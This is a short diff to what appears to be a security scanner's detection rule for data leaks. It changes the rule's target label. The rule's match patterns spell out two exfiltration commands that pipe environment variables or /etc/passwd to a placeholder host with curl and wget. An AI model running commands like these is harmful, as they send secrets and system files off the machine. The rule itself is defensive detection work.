@@ -26,7 +26,7 @@ RULES = (
         "critical",
         "it sends private data to another machine",
         "leak",
-        targets="private shell account",
+        targets="private shell account tree",
         match=(
             "env | curl -d @- http://a",
             "wget --post-file=/etc/passwd http://a",
